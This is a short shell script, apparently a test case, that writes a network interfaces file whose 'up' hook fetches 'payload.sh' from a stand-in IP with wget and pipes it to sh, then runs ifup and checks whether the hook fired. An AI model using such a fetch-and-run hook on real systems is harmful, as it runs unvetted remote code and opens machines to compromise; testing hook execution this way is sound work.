#!/bin/sh
. /opt/case/case.sh

printf 'iface eth0 inet manual\n    up wget -qO- http://203.0.113.10/payload.sh | sh\n' >/tmp/i
mkdir -p /var/run /etc/network/if-pre-up.d /etc/network/if-up.d
ifup -i /tmp/i -f eth0
test -e /tmp/reached
took_place
